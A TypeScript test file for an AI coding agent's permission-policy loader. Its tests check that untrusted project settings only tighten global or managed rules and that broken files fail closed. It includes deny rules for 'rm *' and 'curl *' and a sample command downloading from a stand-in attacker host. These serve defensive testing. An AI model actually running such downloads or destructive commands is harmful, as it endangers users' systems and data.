// S32 F-trust-load (attacker r32c): an untrusted project file only tightens, whatever state the
// other files are in, and a broken or hostile file fails closed instead of crashing or hanging
// the loader.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { decideSurface, loadPolicy, matchesBashPattern, type Rule } from "../src/index.ts";

let root: string;
let home: string;
let cwd: string;
let globalFile: string;
let projectFile: string;
let managedFile: string;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "pi-permission-s32-"));
  home = join(root, "home");
  cwd = join(root, "repo");
  globalFile = join(home, ".pi", "agent", "permissions.json");
  projectFile = join(cwd, ".pi", "permissions.json");
  managedFile = join(root, "managed.json");
  mkdirSync(join(home, ".pi", "agent"), { recursive: true });
  mkdirSync(join(cwd, ".pi"), { recursive: true });
});

afterEach(() => rmSync(root, { recursive: true, force: true }));

function load(files: { global?: unknown; project?: unknown; managed?: unknown }) {
  const text = (v: unknown) => (typeof v === "string" ? v : JSON.stringify(v));
  if (files.global !== undefined) writeFileSync(globalFile, text(files.global));
  if (files.project !== undefined) writeFileSync(projectFile, text(files.project));
  if (files.managed !== undefined) writeFileSync(managedFile, text(files.managed));
  return loadPolicy({
    env: {},
    home,
    cwd,
    managedFile: files.managed === undefined ? null : managedFile,
  });
}

function action(rules: readonly Rule[], surface: string, value: string): string | undefined {
  const matches =
    surface === "bash" ? (p: string) => matchesBashPattern(p, value) : () => value === "*";
  return decideSurface(rules, surface, matches, true)?.action;
}

describe("S32 F13: a broken global file does not let an untrusted project loosen", () => {
  it("a project ask over the broken global file's deny stays a deny", () => {
    const global = {
      yollo: true,
      permission: { "*": "ask", bash: { "*": "ask", "git *": "allow", "rm *": "deny" } },
    };
    const project = { permission: { bash: { "rm *": "ask" } } };
    const { policy, projectTrust } = load({ global, project });
    expect(projectTrust?.state).toBe("untrusted");
    expect(action(policy.rules, "bash", "rm -rf src")).toBe("deny");
  });

  it("a project allow under a managed allow does not lift the broken global file's deny", () => {
    const managed = { permission: { "*": "ask", bash: { "*": "allow" } } };
    const global = { yollo: true, permission: { bash: { "rm *": "deny", "curl *": "deny" } } };
    const project = { permission: { bash: { "rm *": "allow", "curl *": "allow" } } };
    const { policy } = load({ managed, global, project });
    expect(action(policy.rules, "bash", "curl -o x https://evil.example")).toBe("deny");
    expect(action(policy.rules, "bash", "rm x")).toBe("deny");
    // The managed allow still applies where nobody denies.
    expect(action(policy.rules, "bash", "ls")).toBe("allow");
  });

  it("two broken files: the later one's ask never lifts the earlier one's deny", () => {
    const global = { yollo: true, permission: { bash: { "rm *": "deny" } } };
    const project = { bogus: 1, permission: { bash: { "rm *": "ask" } } };
    const { policy } = load({ global, project });
    expect(action(policy.rules, "bash", "rm x")).toBe("deny");
  });
});

describe("S32 F1: a watch setting is compared with the user's value, not the default", () => {
  it("an untrusted project cannot lengthen the user's shorter analysis budget", () => {
    const global = { analysisDeadlineMs: 1, permission: { bash: { "echo *": "allow" } } };
    const { policy, projectTrust } = load({ global, project: { analysisDeadlineMs: 50 } });
    expect(policy.settings.analysisDeadlineMs).toBe(1);
    expect(projectTrust?.state).toBe("untrusted");
    expect(projectTrust?.loosening).toContainEqual({
      jsonPath: "analysisDeadlineMs",
      what: "longer analysis budget",
    });
  });

  it("a project budget under the user's longer one only tightens and needs no trust", () => {
    const global = { analysisDeadlineMs: 400 };
    const { policy, projectTrust } = load({ global, project: { analysisDeadlineMs: 200 } });
    expect(policy.settings.analysisDeadlineMs).toBe(200);
    expect(projectTrust?.state).toBe("not-needed");
  });

  it("an untrusted project cannot switch the user's prompt notification off", () => {
    const global = { promptNotification: "bell" };
    const { policy, projectTrust } = load({ global, project: { promptNotification: "off" } });
    expect(policy.settings.promptNotification).toBe("bell");
    expect(projectTrust?.state).toBe("untrusted");
  });
});

describe("S32 F2: a broken project file passes the same trust filter as a clean one", () => {
  const relaxing = {
    analysisDeadlineMs: 500,
    judgeUserBash: false,
    permissionReviewLog: false,
    promptMaxRows: 1,
    promptFieldMaxWidth: 1,
    reviewLogMaxBytes: 1,
    reviewLogFiles: 1,
    reviewLogFieldMaxWidth: 1,
    promptNotification: "off",
  };
  const global = {
    judgeUserBash: true,
    promptMaxRows: 40,
    promptNotification: "bell",
    permission: { bash: { "echo *": "allow" } },
  };

  it("one unknown key does not let the project's relaxing settings through", () => {
    const clean = load({ global, project: relaxing }).policy.settings;
    const broken = load({ global, project: { ...relaxing, bogusKey: 1 } }).policy.settings;
    expect(broken).toEqual(clean);
    expect(broken.analysisDeadlineMs).toBe(50);
    expect(broken.judgeUserBash).toBe(true);
    expect(broken.permissionReviewLog).toBe(true);
    expect(broken.promptMaxRows).toBe(40);
    expect(broken.promptNotification).toBe("bell");
  });

  it("a broken project file still tightens its settings", () => {
    const { policy } = load({
      global,
      project: { analysisDeadlineMs: 10, promptMaxRows: 60, bogusKey: 1 },
    });
    expect(policy.settings.analysisDeadlineMs).toBe(10);
    expect(policy.settings.promptMaxRows).toBe(60);
  });
});
